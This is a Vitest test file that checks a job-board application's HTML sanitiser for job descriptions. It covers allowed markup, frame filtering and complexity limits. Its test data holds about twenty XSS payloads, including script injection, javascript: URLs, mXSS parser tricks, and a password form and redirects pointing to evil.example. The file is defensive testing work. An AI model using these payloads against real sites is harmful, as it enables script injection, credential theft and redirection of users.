import { describe, expect, it } from 'vitest';
import { newOrganization } from '../../../../test/app.ts';
import { eventsOf, issuePaths, postJob, readJob } from '../../../../test/jobs.ts';

describe('the description of a job', () => {
  it.each([
    ['<p>Plain</p>', '<p>Plain</p>'],
    ['Plain', '<p>Plain</p>'],
    ['<h1>A</h1><ul><li>b</li></ul>', '<h1>A</h1><ul><li><p>b</p></li></ul>'],
    ['<p>a < b & c</p>', '<p>a &lt; b &amp; c</p>'],
    ['<p onclick="x()" class="y" id="z">A</p>', '<p>A</p>'],
    ['<b>A</b><i>B</i>', '<p><strong>A</strong><em>B</em></p>'],
    ['', ''],
    ['<script>alert(1)</script>', ''],
  ])('stores %j as %j', async (html, stored) => {
    const organization = await newOrganization();
    const job = await postJob(organization, { description: html });
    expect(job.description).toBe(stored);
    expect((await readJob(organization, job.id)).description).toBe(stored);
  });

  it('may embed frames of other sites, but not of this installation', async () => {
    const organization = await newOrganization();
    const own = [new URL(organization.scope.organization.boardUrl).host, 'boards.localhost:3000'];
    for (const host of own) {
      const description = `<p>A</p><iframe src="https://${host}/jobs"></iframe>`;
      const job = await postJob(organization, { description });
      expect(job.description).toBe('<p>A</p>');
      const response = await organization.patch(`/jobs/${job.id}`, { description: `${description}<p>B</p>` });
      expect(response.body.data.description).toBe('<p>A</p><p>B</p>');
    }
    const { description } = await postJob(organization, {
      description: '<iframe src="https://player.example/v"></iframe>',
    });
    expect(description).toContain('<iframe src="https://player.example/v"');
  });

  it.each([
    '<p>A</p><script src="https://evil.example/x.js"></script>',
    '<img src=x onerror=alert(1)>A',
    '<p><a href="javascript:alert(1)">A</a></p>',
    '<p><a href="jAvA&#x0A;scrIpt:alert(1)">A</a></p>',
    '<p><a href="data:text/html,<script>alert(1)</script>">A</a></p>',
    '<svg><g onload="alert(1)"></g></svg>A',
    '<svg><script>alert(1)</script></svg>A',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">A',
    '<p style="background: url(javascript:alert(1)); position: fixed">A</p>',
    '<iframe src="javascript:alert(1)"></iframe>A',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>A',
    '<form action="https://evil.example"><input name="password"><button>A</button></form>',
    '<style>body{display:none}</style>A',
    '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">A',
    '<object data="x.swf"></object><embed src="x.swf">A',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">A</noscript>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">A',
    '<!--[if IE]><script>alert(1)</script><![endif]-->A',
    '<<script>script>alert(1)<</script>/script>A',
    '<p title="&quot;><script>alert(1)</script>">A</p>',
    '<template><script>alert(1)</script></template>A',
    '<a href="https://a.example" onmouseover="alert(1)" ping="https://evil.example">A</a>',
  ])('loses the harmful parts of %s, and does not change when it is sent again', async (attack) => {
    const organization = await newOrganization();
    const job = await postJob(organization, { description: `<p>Kept</p>${attack}` });
    const description = job.description ?? '';
    const tags = (description.match(/<[^>]*>/g) ?? []).join('').toLowerCase();
    expect(tags).not.toMatch(
      /<(script|style|svg|math|form|input|object|embed|base|meta|template|textarea|noscript)/,
    );
    expect(tags).not.toMatch(/\son\w+=|javascript:|data:|srcdoc|position|evil\.example|ping=/);
    expect(description).toMatch(/^<p>Kept<\/p>/);

    const response = await organization.patch(`/jobs/${job.id}`, { description });
    expect(response.body.data).toEqual(job);
    expect(await eventsOf(organization)).toHaveLength(1);
  });

  it('allows the same markup as a page', async () => {
    const organization = await newOrganization();
    const html =
      '<h2 style="text-align: center">Title</h2><p>a<br>b <strong>c</strong> <em>d</em> <s>e</s> <code>f</code></p>' +
      '<ul><li><p>g</p></li></ul><ol><li><p>h</p></li></ol><blockquote><p>i</p></blockquote>' +
      '<pre><code>j</code></pre><hr>';
    const job = await postJob(organization, { description: html });
    expect(job.description).toBe(html);
  });

  it('is rejected with its path when it is too complex', async () => {
    const organization = await newOrganization();
    const deep = `${'<blockquote>'.repeat(300)}A${'</blockquote>'.repeat(300)}`;
    expect(issuePaths(await organization.post('/jobs', { title: 'A', description: deep }))).toEqual([
      '/description',
    ]);
    const many = '<br>a'.repeat(15_000);
    expect(issuePaths(await organization.post('/jobs', { title: 'A', description: many }))).toEqual([
      '/description',
    ]);
    expect(await eventsOf(organization)).toEqual([]);
  });
});
